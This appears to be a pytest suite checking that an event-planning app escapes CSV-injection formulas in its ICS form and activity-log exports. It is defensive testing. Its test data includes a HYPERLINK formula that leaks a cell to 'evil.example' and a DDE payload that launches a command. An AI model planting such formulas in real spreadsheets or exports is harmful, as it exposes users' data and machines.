"""Every CSV the app writes opens in a spreadsheet as text: a cell that starts with =, +, -,
@, a tab or a carriage return would be run as a formula (CSV injection). Names and words
come in through the API where it lets them; what it no longer lets in (roles that are not
role names, tabs and carriage returns) is planted in the database, as older rows or another
feed's words would be. The files are downloaded over HTTP and read back cell by cell."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from common.times import utcnow
from planner.models import Agency, Assignment, Person, Requirement
from tests.factories import db_session, make_event, make_fixture_zones, make_token
from threats.models import ActivityEntry, Threat

# What Excel, LibreOffice and Google Sheets read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def plan(app, client):
    """A zone, a period, a person posted there and head counts, all named like formulas."""
    with db_session(app) as session:
        event = make_event(session)
        north = make_fixture_zones(session, event)["north-avenue-beach"].id
        tokens = {r: make_token(session, r, f"api-{r}") for r in ("planner", "commander")}
        ids = {"event": event.id, "north": north, **tokens}
    e, call = ids["event"], caller(client, ids)
    call("planner", "PATCH", f"/events/{e}/zones/{north}", {"name": HYPERLINK, "notes": "@notes"})
    now = utcnow()
    shift = {"name": "=1+1", "starts_at": (now - timedelta(hours=1)).isoformat(),
             "ends_at": (now + timedelta(hours=3)).isoformat()}  # fmt: skip
    ids["shift"] = call("planner", "POST", f"/events/{e}/shifts", shift).json["id"]
    person = {"name": "+SUM(1,1)", "agency": "@SUM(1)", "unit": "-1+1",
              "roles": ["patrol_officer"], "phone": "+1 312 555 0101"}  # fmt: skip
    ids["person"] = call("planner", "POST", "/personnel", person).json["id"]
    available = {"person_ids": [ids["person"]]}
    assert call("planner", "POST", f"/events/{e}/people", available).status_code == 200
    need = {"zone_id": north, "shift_id": ids["shift"], "role": "patrol_officer", "required": 2}
    assert call("planner", "POST", f"/events/{e}/requirements", [need]).status_code == 200
    post = {"person_id": ids["person"], "zone_id": north, "shift_id": ids["shift"]}
    post["role"] = "patrol_officer"
    assert call("planner", "POST", f"/events/{e}/assignments", [post]).status_code == 201
    plant_old_rows(app, ids)
    return ids


def caller(client, ids):
    def call(role, method, path, body=None, **headers):
        headers["Authorization"] = f"Bearer {ids[role]}"
        return client.open(f"/api/v1{path}", method=method, headers=headers, json=body)

    return call


def plant_old_rows(app, ids) -> None:
    """Rows from before roles and text were checked: roles that are formulas, a tab and a
    carriage return at the start of a unit, a role and an activity log entry."""
    with db_session(app) as session:
        e, zone, shift = ids["event"], ids["north"], ids["shift"]
        session.add_all(
            [
                Requirement(event_id=e, zone_id=zone, shift_id=shift, role="\t=1+2", required=1),
                Requirement(event_id=e, zone_id=zone, shift_id=shift, role="\r=3", required=1),
            ]
        )
        agency = session.query(Agency).filter_by(name="@SUM(1)").one()
        old = Person(agency=agency, name="Bo", unit="\t=unit", roles=["x"], phone="\r=phone")
        session.add(old)
        session.flush()
        session.add(Assignment(event_id=e, person_id=old.id, zone_id=zone, shift_id=shift,
                               role="-2+3"))  # fmt: skip
        threat = Threat(event_id=e, source="feed", source_id="F-1", kind="-kind", title=HYPERLINK)
        session.add(threat)
        session.flush()
        ids["threat"] = threat.id
        session.add(ActivityEntry(event_id=e, threat_id=threat.id, actor="\r=actor",
                                  action="note", note="\t=note"))  # fmt: skip
        session.commit()


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def formulas(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run rather than show."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("language", ["en", "fr"])
@pytest.mark.parametrize("form", ["ics204", "ics215"])
def test_every_ics_csv_cell_opens_as_text(client, plan, form, language):
    call = caller(client, plan)
    path = f"/events/{plan['event']}/exports/{form}.csv?shift={plan['shift']}"
    rows = cells(call("planner", "GET", path, **{"Accept-Language": language}))
    assert len(rows) > 2 and formulas(rows) == []
    written = {cell for row in rows for cell in row}
    planted = {"\t=1+2", "\r=3", "-2+3"} if form == "ics215" else {"-2+3", "\t=unit", "\r=phone"}
    planted |= {HYPERLINK}
    assert {"'" + value for value in planted} <= written  # kept, as text


def test_every_activity_log_csv_cell_opens_as_text(client, plan):
    call = caller(client, plan)
    path = f"/events/{plan['event']}/threats/{plan['threat']}"
    change = {"status": "assigned", "assignee": "@Bike 18", "note": "-cleared +1"}
    assert call("commander", "PATCH", path, change).status_code == 200
    rows = cells(call("commander", "GET", f"/events/{plan['event']}/log.csv"))
    assert len(rows) == 3 and formulas(rows) == []
    written = {cell for row in rows for cell in row}
    planted = {HYPERLINK, "@Bike 18", "-cleared +1", "\r=actor", "\t=note"}
    assert {"'" + value for value in planted} <= written


@pytest.mark.parametrize("role", ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "patrol\tofficer!"])
def test_a_requirement_or_assignment_role_that_is_no_role_name_is_refused(client, plan, role):
    call, e = caller(client, plan), plan["event"]
    need = {"zone_id": plan["north"], "shift_id": plan["shift"], "role": "emt", "required": 1}
    answer = call("planner", "POST", f"/events/{e}/requirements", [need, need | {"role": role}])
    error = answer.json["error"]
    assert answer.status_code == 400 and error["details"] == {"field": "role"}
    assert error["message"].startswith("item 2: unknown role")
    post = {"person_id": plan["person"], "zone_id": plan["north"], "shift_id": plan["shift"]}
    answer = call("planner", "POST", f"/events/{e}/assignments", [post | {"role": role}])
    error = answer.json["error"]
    assert answer.status_code == 400 and error["details"] == {"field": "role"}
    assert error["message"].startswith("item 1: unknown role")
    rows = cells(call("planner", "GET", f"/events/{e}/exports/ics215.csv?shift={plan['shift']}"))
    assert not any("emt" in cell.lower() for row in rows for cell in row)  # all refused
